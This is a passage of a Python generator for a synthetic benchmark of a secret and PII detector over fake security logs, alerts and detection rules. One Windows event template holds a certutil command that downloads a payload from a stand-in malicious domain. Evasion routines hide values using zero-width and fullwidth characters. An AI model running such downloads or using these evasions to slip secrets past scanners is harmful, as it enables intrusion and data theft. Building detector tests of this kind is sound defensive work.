    body = ["Defender alert: Suspicious PowerShell command line\nDevice: %s  DeviceId: %s\nAccount: ACME\\%s (SID %s)\nProcessId: %s  ParentProcessId: %s\nCommandLine: powershell.exe -NoP -W Hidden -EncodedCommand %s\nSHA1: %s\nReportId: %d"
            % (r.choice(HOSTS).upper(), hexs(r, 40), r.choice(["jdoe", "mrossi"]), sid(r), pid(r), pid(r), ps_enc(cmd), sha1(r), r.randint(10000, 99999))]
    return C(lang, wrap(r, lang, body) + ["\nWhat does the encoded part do?"])


def n_cloudtrail_service(r):
    lang = lang_pick(r)
    a = acct(r)
    body = ['{\n  "eventVersion": "1.08",\n  "userIdentity": {"type": "AWSService", "invokedBy": "ec2.amazonaws.com"},\n  "eventTime": "%s",\n  "eventSource": "sts.amazonaws.com",\n  "eventName": "AssumeRole",\n  "awsRegion": "eu-south-1",\n  "sourceIPAddress": "ec2.amazonaws.com",\n  "userAgent": "ec2.amazonaws.com",\n  "requestParameters": {"roleArn": "%s", "roleSessionName": "%s"},\n  "responseElements": {"credentials": {"accessKeyId": "HIDDEN_DUE_TO_SECURITY_REASONS", "sessionToken": "HIDDEN_DUE_TO_SECURITY_REASONS", "expiration": "%s"}},\n  "requestID": "%s",\n  "eventID": "%s",\n  "resources": [{"accountId": "%s", "type": "AWS::IAM::Role", "ARN": "%s"}],\n  "recipientAccountId": "%s",\n  "sharedEventID": "%s"\n}'
            % (iso(r)[:19] + "Z", arn(r, a, "role"), inst(r), iso(r), uuid(r), uuid(r), a, arn(r, a, "role"), a, uuid(r))]
    return C(lang, wrap(r, lang, body))


def n_terraform(r):
    lang = lang_pick(r)
    a = acct(r)
    body = ["  # aws_iam_access_key.ci will be created\n  + resource \"aws_iam_access_key\" \"ci\" {\n      + create_date                    = (known after apply)\n      + encrypted_secret               = (known after apply)\n      + id                             = (known after apply)\n      + secret                         = (sensitive value)\n      + ses_smtp_password_v4           = (sensitive value)\n      + user                           = \"ci-deployer\"\n    }\n\n  # aws_security_group_rule.ssh will be created\n  + resource \"aws_security_group_rule\" \"ssh\" {\n      + from_port         = 22\n      + security_group_id = \"sg-0%s\"\n      + source_security_group_id = \"sg-0%s\"\n      + to_port           = 22\n    }\n\n  # module.eks.aws_iam_role.node\n      role_arn = \"%s\"\n\nPlan: 2 to add, 0 to change, 0 to destroy.\n\nChanges to Outputs:\n  + db_password = (sensitive value)"
            % (hexs(r, 16), hexs(r, 16), arn(r, a, "role"))]
    return C(lang, wrap(r, lang, body))


def n_k8s_events(r):
    lang = lang_pick(r)
    rows = []
    for _ in range(r.randint(3, 6)):
        rows.append("%-5s %-8s %-22s %-40s %s" % ("%dm" % r.randint(1, 59), r.choice(["Warning", "Normal"]), r.choice(["BackOff", "Unhealthy", "FailedMount", "Pulled", "OOMKilling", "FailedScheduling"]),
                                                  "pod/%s-%s-%s" % (r.choice(["api", "worker", "ingress-nginx-controller"]), hexs(r, 10), rs(r, LO + DG, 5)),
                                                  r.choice(["Liveness probe failed: HTTP probe failed with statuscode: 503", "Back-off restarting failed container",
                                                            "MountVolume.SetUp failed for volume \"db-creds\" : secret \"db-creds\" not found",
                                                            "Successfully pulled image \"registry.acme.lan/api@sha256:%s\" in 2.1s" % sha256(r),
                                                            "0/12 nodes are available: 3 Insufficient memory, 9 node(s) had untolerated taint."])))
    body = ["kubectl get events -n prod --sort-by=.lastTimestamp\nLAST SEEN  TYPE  REASON  OBJECT  MESSAGE\n" + "\n".join(rows)]
    return C(lang, wrap(r, lang, body))


def n_vulnsummary(r):
    lang = lang_pick(r)
    rows = ["| %s | %.1f | %s | %s | %s |" % (cve(r), r.uniform(4, 10), r.choice(["openssl", "glibc", "log4j-core", "libxml2", "nginx", "sudo"]),
                                              "%d.%d.%d" % (r.randint(0, 3), r.randint(0, 20), r.randint(0, 30)), r.choice(["Plugin 19506", "Plugin 156032", "QID 38739", "rule 942100"])) for _ in range(r.randint(3, 6))]
    body = ["Scan results for scope `prod-eu` (%d assets, scan id %s):\n\n| CVE | CVSS | Package | Version | Source |\n|---|---|---|---|---|\n%s" % (r.randint(20, 400), uuid(r), "\n".join(rows))]
    return C(lang, wrap(r, lang, body))


def n_suricata_rule(r):
    lang = lang_pick(r)
    body = ["alert http $HOME_NET any -> $EXTERNAL_NET any (msg:\"ET MALWARE %s CnC Checkin\"; flow:established,to_server; http.method; content:\"POST\"; http.uri; content:\"/gate.php\"; http.host; content:\"%s\"; reference:md5,%s; classtype:trojan-activity; sid:%d; rev:%d; metadata:created_at 2025_%02d_%02d;)"
            % (r.choice(["Lumma Stealer", "AsyncRAT", "Remcos"]), evil_domain(r), md5(r), r.randint(2040000, 2059999), r.randint(1, 5), r.randint(1, 12), r.randint(1, 28))]
    return C(lang, wrap(r, lang, body) + ["\nWhy does this rule never fire on our sensor?"])


def n_masked(r):
    lang = lang_pick(r)
    body = ["%s %s sshd[%s]: Failed password for invalid user %s from [client-ip-redacted] port %s ssh2\n" % (syslog_ts(r), r.choice(HOSTS), pid(r), r.choice(USERS), port(r)),
            "%s %s app[%s]: login attempt user=[REDACTED] password=**** src=xxx.xxx.xxx.xxx result=FAIL\n" % (syslog_ts(r), r.choice(HOSTS), pid(r)),
            "%s %s app[%s]: token=<redacted> api_key=${API_KEY} email=<user@domain> status=401\n" % (syslog_ts(r), r.choice(HOSTS), pid(r))]
    return C(lang, wrap(r, lang, body), allow={"user@domain"})


def n_sigma(r):
    lang = lang_pick(r)
    body = ["title: Suspicious Encoded PowerShell\nid: %s\nstatus: experimental\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: '\\powershell.exe'\n    CommandLine|contains:\n      - ' -enc '\n      - ' -EncodedCommand '\n  condition: selection\nfalsepositives:\n  - SCCM\nlevel: high\ntags:\n  - attack.execution\n  - attack.t1059.001" % uuid(r)]
    return C(lang, wrap(r, lang, body))


def n_guardduty_summary(r):
    lang = lang_pick(r)
    rows = ["%-70s %5d  %s" % (r.choice(["Recon:EC2/PortProbeUnprotectedPort", "UnauthorizedAccess:EC2/SSHBruteForce", "Discovery:S3/AnomalousBehavior", "Policy:IAMUser/RootCredentialUsage",
                                         "Backdoor:EC2/C&CActivity.B!DNS"]), r.randint(1, 900), inst(r)) for _ in range(r.randint(3, 6))]
    body = ["GuardDuty findings last 7 days, account %s (detector %s):\n%s" % (acct(r), hexs(r, 32), "\n".join(rows))]
    return C(lang, wrap(r, lang, body))


def n_timeline(r):
    lang = lang_pick(r)
    body = ["Incident INC-%d (SEV-%d) timeline\n- %s PagerDuty alert %s fired (p99 latency > 2s)\n- %s rollback of deploy %s on %s\n- %s error rate back to 0.2%%, trace %s\n- %s RCA: connection pool exhausted after config change PR #%d"
            % (r.randint(1000, 99999), r.randint(1, 3), hhmm(r), "Q" + rs(r, UP + DG, 13), hhmm(r), hexs(r, 7), r.choice(HOSTS), hhmm(r), hexs(r, 32), hhmm(r), r.randint(100, 9999))]
    return C(lang, wrap(r, lang, body))


def n_windows_4688(r):
    lang = lang_pick(r)
    body = ["EventID 4688 A new process has been created.\nCreator Subject: Security ID %s  Account Name %s  Logon ID 0x%X\nNew Process ID: 0x%x  New Process Name: C:\\Windows\\System32\\%s\nToken Elevation Type: %%%%1937\nCreator Process ID: 0x%x\nProcess Command Line: %s\nSource Network Address: -"
            % (sid(r), r.choice(["jdoe", "svc_sccm"]), r.randint(0x10000, 0xffffff), r.randint(300, 9000), r.choice(["whoami.exe", "nltest.exe", "certutil.exe"]), r.randint(300, 9000),
               r.choice(["whoami /all", "nltest /dclist:acme", "certutil -urlcache -split -f http://%s/p.bin C:\\ProgramData\\p.bin" % evil_domain(r, True)]))]
    return C(lang, wrap(r, lang, body))


def n_mac_table(r):
    lang = lang_pick(r)
    rows = ["%4d    %s    DYNAMIC     Gi1/0/%d" % (r.randint(1, 400), ".".join(hexs(r, 4) for _ in range(3)), r.randint(1, 48)) for _ in range(r.randint(3, 6))]
    body = ["NAC flagged an unknown device. `show mac address-table` on the access switch:\n\nVlan    Mac Address       Type        Ports\n----    -----------       --------    -----\n" + "\n".join(rows)
            + "\n\nSNMP sysObjectID 1.3.6.1.4.1.9.1.%d, uptime %d ticks" % (r.randint(1000, 3000), r.randint(10 ** 6, 10 ** 9))]
    return C(lang, wrap(r, lang, body))


NEG = [("malware_report", n_malware_report, 5), ("ps_encoded", n_ps_encoded, 4), ("cloudtrail_service", n_cloudtrail_service, 4), ("terraform_neg", n_terraform, 3),
       ("k8s_events", n_k8s_events, 4), ("vulnsummary", n_vulnsummary, 3), ("suricata_rule", n_suricata_rule, 3), ("masked", n_masked, 4), ("sigma", n_sigma, 2),
       ("guardduty_summary", n_guardduty_summary, 3), ("timeline_neg", n_timeline, 3), ("win_4688", n_windows_4688, 3), ("mac_table", n_mac_table, 2)]


# ------------------------------------------------------------------ judgement templates
def j_loopback(r):
    v = r.choice(["127.0.0.1", "::1", "127.0.1.1"])
    return J("en", ["%s %s postgres[%s]: FATAL:  password authentication failed for user \"app\"\n%s %s postgres[%s]: DETAIL:  Connection matched pg_hba.conf line 99: \"host all all %s/32 md5\" from %s\nIs the app or a local attacker doing this?"
                    % (syslog_ts(r), r.choice(HOSTS), pid(r), syslog_ts(r), r.choice(HOSTS), pid(r), v if "." in v else "127.0.0.1", v)],
             "loopback address: an IP by format but identifies no host or person; left unlabelled", allow={v, "127.0.0.1"})


def j_docrange(r):
    v4 = r.choice(["192.0.2.", "198.51.100.", "203.0.113."]) + str(r.randint(1, 254))
    v6_ = "2001:db8:%x::%x" % (r.randint(1, 0xffff), r.randint(1, 0xffff))
    return J("en", ["Runbook draft - block an attacker at the edge:\n  aws wafv2 update-ip-set --addresses %s/32\n  ip6tables -I INPUT -s %s -j DROP\nExamples use RFC 5737 / RFC 3849 documentation ranges. Is the runbook correct?" % (v4, v6_)],
             "documentation ranges (RFC 5737 / RFC 3849): left unlabelled", allow={v4, v6_})


def j_aws_example(r):
    return J("en", ["Our secret scanner fires on the AWS docs sample in README.md:\n  aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n  aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nHow do I allowlist it?"],
             "AWS's published example key pair: left unlabelled", allow={"AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"})


def j_any_cidr(r):
    m = r.choice(["255.255.255.0", "255.255.240.0", "255.255.0.0"])
    return J("en", ["Terraform plan for the bastion SG:\n  + ingress {\n      + cidr_blocks = [\"0.0.0.0/0\"]\n      + from_port   = 22\n    }\nand the legacy VPN pushes netmask %s. Is 0.0.0.0/0 on 22 a finding?" % m],
             "unspecified address and netmask: IP-shaped, not an address of anyone; left unlabelled", allow={"0.0.0.0", m})


def j_private_cidr(r):
    n = r.choice(["10.%d.0.0" % r.randint(0, 255), "172.%d.0.0" % r.randint(16, 31), "192.168.%d.0" % r.randint(0, 255)])
    return J("en", ["VPC flow-log alert: traffic from %s/%d to the internet on port 445. Which subnet owns it?" % (n, r.choice([16, 20, 24]))],
             "network address of a private CIDR block: names a subnet, not a host; left unlabelled", allow={n})


def j_defanged(r):
    ip = pub4(r)
    d = ip.replace(".", "[.]")
    return J("en", ["Threat intel feed (TLP:CLEAR) lists C2 ", F("IP_ADDRESS", d, "defang"), " for %s. Did anything talk to it?" % r.choice(["Cobalt Strike", "Sliver", "QakBot"])],
             "defanged IOC notation of an attacker's public IP: labelled IP_ADDRESS; TLP:CLEAR marks public data, left unlabelled", allow={"TLP:CLEAR"})


def j_msgid(r):
    mid = "%s.%s@%s" % (epoch(r), hexs(r, 12), r.choice(EVIL))
    return J("en", ["Hunting query hit on Message-ID <%s> (no sender shown). Which mailboxes received it?" % mid],
             "Message-ID has addr-spec syntax but names no mailbox; left unlabelled", allow={mid})


def j_snmp(r):
    return J("en", ["Nessus plugin 41028 on %s: SNMP Agent Default Community Name (public). Remediation?" % r.choice(HOSTS)],
             "the default SNMP community 'public' is credential-shaped but public; left unlabelled")


JUDGE = [("loopback", j_loopback, 3), ("docrange", j_docrange, 3), ("aws_example", j_aws_example, 2), ("any_cidr", j_any_cidr, 2),
         ("private_cidr", j_private_cidr, 2), ("defanged_ip", j_defanged, 2), ("msgid", j_msgid, 1), ("snmp", j_snmp, 1)]


# ------------------------------------------------------------------ evasions
ZW = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]


def fw(s, pred=lambda c: True):
    return "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E and pred(c) else c for c in s)


def json_u(r, v, chars):
    if r.random() < 0.3:
        return "".join("\\u%04x" % ord(c) for c in v)
    return "".join("\\u%04x" % ord(c) if c in chars else c for c in v)


def evade(r, case):
    fs = [(i, s) for i, s in enumerate(case["segs"]) if isinstance(s, F) and s.enc is None and s.type not in ("PRIVATE_KEY",)]
    if not fs:
        return False
    i, f = r.choice(fs)
    v = f.value
    kinds = []
    if f.type != "PASSWORD":
        kinds += ["zero-width", "zero-width", "fullwidth"]
    if "json" in f.ctx and f.type in ("EMAIL", "IP_ADDRESS"):
        kinds += ["json-escape"] * 3
    if "url" in f.ctx and f.type in ("PASSWORD",):
        kinds += ["percent"] * 3
    if not kinds:
        return False
    kind = r.choice(kinds)
    if "percent" in kinds and r.random() < 0.5:
        kind = "percent"
    if "json-escape" in kinds and r.random() < 0.3:
        kind = "json-escape"
    if kind == "fullwidth":
        if f.type == "EMAIL":
            nv = v.replace("@", "\uff20") if r.random() < 0.6 else fw(v)
        elif f.type in ("US_SSN", "CREDIT_CARD", "PHONE", "IT_VAT", "IBAN"):
            nv = fw(v, str.isdigit)
        elif f.type == "IP_ADDRESS":
            nv = fw(v, str.isalnum)
        else:
            nv = fw(v)
        enc = "evade"
    elif kind == "json-escape":
        nv = json_u(r, v, "@.:")
        enc = "json1"
    elif kind == "percent":
        # a password with characters a browser percent-encodes, spelled fully encoded in part
        nv = "".join("%%%02X" % ord(c) if (not c.isalnum() or r.random() < 0.25) else c for c in v)
        if nv == v:
            nv = "%%%02X" % ord(v[0]) + v[1:]
        enc = "pct"
    else:
        nv = v
        for _ in range(r.choice([1, 1, 2])):
            p = r.randint(2, len(nv) - 2)
            nv = nv[:p] + r.choice(ZW) + nv[p:]
        enc = "evade"
    case["segs"][i] = F(f.type, nv, enc, f.ctx)
    # the same value spelled elsewhere in the case stays plain: keep it labelled as it is
    case["tags"].add("evasion:" + kind)
    return True


# ------------------------------------------------------------------ self-check
def decode_value(f):
    v = f.value
    enc = f.enc or ""
    if enc == "json1":
        v = json.loads('"' + v + '"')
    elif enc == "b64":
        v = base64.b64decode(v).decode()
        if f.type == "PASSWORD" and ":" in v:
            v = v.split(":", 1)[1]
    elif enc == "pct":
        v = urllib.parse.unquote(v)
    elif enc == "defang":
        v = v.replace("[.]", ".")
    return V.nfkc_strip(v)


def valid_value(t, v):
    if t == "EMAIL":
        return bool(V.EMAIL_RE.fullmatch(v))
    if t == "PHONE":
        d = re.sub(r"\D", "", v)
        return 8 <= len(d) <= 15 and re.fullmatch(r"[+(]?[\d ()./+-]+", v) is not None
    if t == "CREDIT_CARD":
        return V.card_ok(v)
    if t == "IBAN":
        return V.iban_ok(v)
    if t == "IT_FISCAL_CODE":
        return V.cf_ok(v)
    if t == "IT_VAT":
        return V.piva_ok(v)
    if t == "US_SSN":
        return V.ssn_ok(v)
    if t == "IP_ADDRESS":
        try:
            a = ipaddress.ip_address(v)
        except ValueError:
            return False
        return not (a.is_loopback or a.is_unspecified or a.is_multicast)
    if t == "AWS_ACCESS_KEY":
        return bool(re.fullmatch(r"(AKIA|ASIA)[A-Z2-7]{16}", v))
    if t == "AWS_SECRET_KEY":
        return bool(re.fullmatch(r"[A-Za-z0-9/+]{40}", v))
    if t == "GITHUB_TOKEN":
        return V.gh_ok(v)
    if t == "GITLAB_TOKEN":
        return bool(re.fullmatch(r"(glpat-[\w-]{20}|glpat-[\w-]{27,300}\.01[0-9a-z]{7}|gl(rt|dt|ft|soat)-[\w-]{20}|glptt-[0-9a-f]{40}|GR1348941[\w-]{20}|glcbt-[0-9a-f]{2}_[\w-]{20})", v))
    if t == "SLACK_TOKEN":
        return bool(re.fullmatch(r"(xox[bp]-\d{10,13}-\d{10,13}(-\d{10,13})?-[A-Za-z0-9]{24,32}|xapp-1-A[A-Z0-9]{10}-\d{13}-[0-9a-f]{64}|xoxe\.xoxp-1-[A-Za-z0-9]{146})", v))
    if t == "SLACK_WEBHOOK":
        return bool(re.fullmatch(r"https://hooks\.slack\.com/services/T[A-Z0-9]{8,10}/B[A-Z0-9]{8,10}/[A-Za-z0-9]{24}", v))
    if t == "STRIPE_KEY":
        return bool(re.fullmatch(r"[sr]k_live_[A-Za-z0-9]{24,99}", v))
    if t == "OPENAI_KEY":
        return bool(re.fullmatch(r"sk-(proj-|svcacct-|admin-)?[\w-]{20,74}T3BlbkFJ[\w-]{20,74}", v))
    if t == "ANTHROPIC_KEY":
        return bool(re.fullmatch(r"sk-ant-(api03|admin01)-[\w-]{93}AA", v))
    if t == "GOOGLE_API_KEY":
        return bool(re.fullmatch(r"AIza[\w-]{35}", v))
    if t == "PRIVATE_KEY":
        return bool(re.fullmatch(r"-----BEGIN ([A-Z]+ )*PRIVATE KEY-----\n.*\n-----END ([A-Z]+ )*PRIVATE KEY-----", v, re.S))
    if t == "JWT":
        return V.jwt_ok(v)
    if t == "CREDENTIAL_URL":
        return bool(re.fullmatch(r"[a-z][a-z0-9+.-]*://[^\s:/@]+:[^\s@/]+@[^\s/]+\S*", v))
    if t == "PASSWORD":
        return len(v) >= 6 and not re.search(r"\s", v)
    if t == "CONFIDENTIAL_MARKER":
        return v.isupper() or v.startswith("TLP:")
    raise ValueError(t)


SCAN = [
    ("EMAIL", V.EMAIL_RE, None),
    ("AWS_ACCESS_KEY", re.compile(r"(?<![A-Z0-9])(?:AKIA|ASIA)[A-Z0-9]{16}(?![A-Z0-9])"), None),
    ("GOOGLE_API_KEY", re.compile(r"AIza[\w-]{35}"), None),
    ("GITLAB_TOKEN", re.compile(r"(?:glpat|glrt|gldt|glptt|glft|glsoat|glcbt)-[\w-]{20}|GR1348941[\w-]{20}"), None),
    ("SLACK_TOKEN", re.compile(r"xox[abposre][.-][A-Za-z0-9-]*\d"), None),
    ("ANTHROPIC_KEY", re.compile(r"sk-ant-\w+-"), None),
    ("OPENAI_KEY", re.compile(r"T3BlbkFJ"), None),
    ("STRIPE_KEY", re.compile(r"[sr]k_(?:live|test)_[A-Za-z0-9]{10,}"), None),
    ("SLACK_WEBHOOK", re.compile(r"hooks\.slack\.com/(?:services|workflows)/T"), None),
    ("PRIVATE_KEY", re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY"), None),
    ("CREDENTIAL_URL", re.compile(r"[A-Za-z][A-Za-z0-9+.-]*://[^\s:/@]*:[^\s@/]+@[^\s/]+"), None),
    ("GITHUB_TOKEN", re.compile(r"gh[pousr]_[A-Za-z0-9]{36}"), V.gh_ok),
    ("JWT", re.compile(r"eyJ[\w-]*\.[\w-]*\.[\w-]*"), V.jwt_ok),
    ("US_SSN", re.compile(r"(?<!\d)\d{3}-\d{2}-\d{4}(?!\d)"), V.ssn_ok),
    ("IT_VAT", re.compile(r"(?<![0-9A-Za-z])(?:IT)?\d{11}(?![0-9A-Za-z])"), lambda s: V.piva_ok(s[-11:])),
    ("IT_FISCAL_CODE", re.compile(r"(?<![0-9A-Za-z])[A-Za-z]{6}[0-9LMNPQRSTUVlmnpqrstuv]{2}[A-Za-z][0-9LMNPQRSTUVlmnpqrstuv]{2}[A-Za-z][0-9LMNPQRSTUVlmnpqrstuv]{3}[A-Za-z](?![0-9A-Za-z])"), V.cf_ok),
    ("IP_ADDRESS", V.IPV4_RE, V.ipv4_ok),
    ("CONFIDENTIAL_MARKER", re.compile(r"TLP:(?:AMBER|RED)|CONFIDENTIAL|RISERVATO|INTERNAL USE ONLY|USO INTERNO"), None),
]
V6_RE = re.compile(r"(?<![0-9A-Za-z:])[0-9A-Fa-f]{0,4}(?::[0-9A-Fa-f]{0,4}){2,7}(?![0-9A-Za-z:])")
PW_ASSIGN = re.compile(r"(?i)(?:password|passwd|pwd|_pass|pass)[\"']?[ \t]*[:=][ \t]*[\"']?([^\s\"',;&\\]*)")
PW_PLACEHOLDER = re.compile(r"^(|null|\*+|\$\{.*|<.*|\[REDACTED\]|\(sensitive|\u2591|HIDDEN_DUE_TO_SECURITY_REASONS)")


def scan_unlabelled(text, allow):
    hits = []
    for typ, rx, ok in SCAN:
        for m in rx.finditer(text):
            s = m.group()
            if ok and not ok(s):
                continue
            if any(a and (a in s or s in a) for a in allow):
                continue
            hits.append((typ, s))
    for m in V6_RE.finditer(text):
        s = m.group()
        if "::" not in s and s.count(":") != 7:
            continue
        try:
            ipaddress.IPv6Address(s)
        except ValueError:
            continue
        if s in allow:
            continue
        hits.append(("IPV6", s))
    for m in re.finditer(r"(?<![A-Za-z0-9])[A-Za-z]{2}\d{2}(?:[ -]?[A-Za-z0-9]){8,34}", text):
        comp = re.sub(r"[ -]", "", m.group()).upper()
        n = V.IBAN_LEN.get(comp[:2])
        if n and len(comp) >= n and V.iban_ok(comp[:n]):
            hits.append(("IBAN", m.group()))
    for m in re.finditer(r"(?<![0-9A-Za-z])\d+(?:[ -]\d+)*(?![0-9A-Za-z])", text):
        groups = re.split(r"[ -]", m.group())
        for i in range(len(groups)):
            tot = ""
            for j in range(i, len(groups)):
                tot += groups[j]
                if len(tot) > 19:
                    break
                if len(tot) >= 13 and V.luhn_sum_ok(tot):
                    hits.append(("CREDIT_CARD", " ".join(groups[i:j + 1])))
    for m in PW_ASSIGN.finditer(text):
        if not PW_PLACEHOLDER.match(m.group(1)):
            hits.append(("PASSWORD?", m.group(0)))
    return hits


def assemble(case):
    text, findings, blank = "", [], ""
    for s in case["segs"]:
        if isinstance(s, F):
            b0 = len(text.encode())
            text += s.value
            findings.append({"type": s.type, "start": b0, "end": len(text.encode()), "value": s.value, "_f": s})
            blank += " \u2591 "
        else:
            text += s
            blank += s
    return text, findings, blank


def self_check(text, findings, blank, allow):
    b = text.encode()
    for f in findings:
        assert b[f["start"]:f["end"]].decode() == f["value"], f
        v = decode_value(f["_f"])
        if not valid_value(f["type"], v):
            raise AssertionError("invalid labelled value %r %r (decoded %r)" % (f["type"], f["value"], v))
    hits = scan_unlabelled(V.nfkc_strip(blank), allow)
    if hits:
        raise Retry(hits)


# ------------------------------------------------------------------ mixture
def pick(r, table):
    tot = sum(t[-1] for t in table)
    x = r.uniform(0, tot)
    for t in table:
        x -= t[-1]
        if x <= 0:
            return t
    return table[-1]


def make_case(r, slot):
    if slot == "neg":
        name, fn, _ = pick(r, NEG)
        c = fn(r)
        c["tags"].add("negative")
        return name, c
    if slot == "judge":
        name, fn, _ = pick(r, JUDGE)
        c = fn(r)
        if not any(isinstance(s, F) for s in c["segs"]):
            c["tags"].add("negative")
        return name, c
    if slot == "eva" and r.random() < 0.3:
        name, fn, _ = pick(r, B64_POS)
        c = fn(r)
        if not any(t.startswith("evasion") for t in c["tags"]):
            raise Retry("b64 template without evasion")
        return name, c
    name, fn, _ = pick(r, POS)
    c = fn(r)
    if any(t.startswith("evasion") for t in c["tags"]) and slot != "eva":
        raise Retry("evasion outside the evasion slot")
    if slot == "eva":
        if any(t.startswith("evasion") for t in c["tags"]):
            return name, c
        if not evade(r, c):
            raise Retry("no evadable value")
    if slot == "dist":
        nname, nfn, _ = pick(r, NEG)
        d = nfn(r)
        sep = r.choice(["\n\n", "\n\n---\n", "\n\nAlso related: ", "\n\nPS: "])
        c["segs"] = (c["segs"] + [sep] + d["segs"]) if r.random() < 0.6 else (d["segs"] + [sep] + c["segs"])
        c["allow"] |= d["allow"]
        c["tags"].add("distractor")
        name += "+" + nname
    return name, c


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    seed, n, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    r = random.Random(seed)
    slots = ["neg"] * round(n * 0.36) + ["judge"] * round(n * 0.04) + ["dist"] * round(n * 0.12) + ["eva"] * round(n * 0.08)
    slots += ["pos"] * (n - len(slots))
    slots = slots[:n]
    r.shuffle(slots)
    rows, meta = [], []
    retries = collections.Counter()
    for i, slot in enumerate(slots):
        for attempt in range(300):
            try:
                name, c = make_case(r, slot)
                text, findings, blank = assemble(c)
                self_check(text, findings, blank, c["allow"])
                break
            except Retry as e:
                retries[str(e)[:70]] += 1
                continue
        else:
            raise SystemExit("could not build a clean case for slot %s" % slot)
        for f in findings:
            del f["_f"]
        row = {"id": "a24s%d-%04d" % (seed, i), "lang": c["lang"], "text": text, "findings": findings, "tags": sorted(c["tags"])}
        rows.append(row)
        meta.append({"id": row["id"], "template": name, "slot": slot, "why": c["why"]})
    base = out[:-6] if out.endswith(".jsonl") else out
    with open(out, "w", encoding="utf-8") as fh:
        for row in rows:
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")
    with open(base + ".nojudge.jsonl", "w", encoding="utf-8") as fh:
        for row in rows:
            if "judgement" not in row["tags"]:
                fh.write(json.dumps(row, ensure_ascii=False) + "\n")
    with open(base + ".meta.jsonl", "w", encoding="utf-8") as fh:
        for m in meta:
            fh.write(json.dumps(m, ensure_ascii=False) + "\n")
    tc = collections.Counter(f["type"] for row in rows for f in row["findings"])
    tg = collections.Counter(t for row in rows for t in row["tags"])
    ev = sum(any(t.startswith("evasion") for t in row["tags"]) for row in rows)
    print("cases %d  evasion cases %d (%.1f%%)" % (len(rows), ev, 100.0 * ev / len(rows)), file=sys.stderr)
    print("tags %s" % dict(tg), file=sys.stderr)
    print("types %s" % dict(tc.most_common()), file=sys.stderr)
    print("retries %d %s" % (sum(retries.values()), retries.most_common(6)), file=sys.stderr)


if __name__ == "__main__":
    main()
